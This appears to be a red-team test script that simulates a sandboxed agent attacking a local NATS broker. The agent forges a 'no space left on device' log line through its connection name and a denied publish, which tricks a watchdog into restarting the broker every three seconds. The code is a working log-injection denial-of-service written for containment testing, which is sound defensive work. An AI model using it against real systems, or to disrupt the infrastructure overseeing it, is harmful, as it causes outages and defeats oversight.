// Red team 26: writes the watchdog's storage-fault words into the broker's log. The agent speaks
// raw NATS through its relay (its launch creds' JWT; the relay proves its key), names its
// connection "x: no space left on device", and publishes on a subject outside its grant: the
// broker logs "[ERR] ... - \"x: no space left on device\" - ... - Publish Violation", and the
// watchdog, which reads that log for a full disk, restarts the broker. Again every 3 s, for as
// long as it runs (each broker restart drops its connection; it dials again).
export async function run(ctx) {
  await ctx.endpoint();
  const creds = ctx.launch.auth.creds;
  const jwt = /BEGIN NATS USER JWT-+\s*(\S+)/.exec(creds)[1];
  const enc = new TextEncoder();
  let stop = false;
  ctx.signal.addEventListener("abort", () => stop = true, { once: true });
  while (!stop) {
    try {
      const conn = await Deno.connect({ hostname: "127.0.0.1", port: 4222 });
      const buf = new Uint8Array(65536);
      await conn.read(buf);
      await conn.write(enc.encode(
        "CONNECT " + JSON.stringify({
          jwt,
          sig: "",
          verbose: false,
          pedantic: false,
          headers: true,
          protocol: 1,
          name: "x: no space left on device",
        }) + "\r\nPUB not.mine 2\r\nhi\r\nPING\r\n",
      ));
      await conn.read(buf);
      conn.close();
    } catch {
      // The broker is restarting: dial again.
    }
    await new Promise((r) => setTimeout(r, 3000));
  }
}
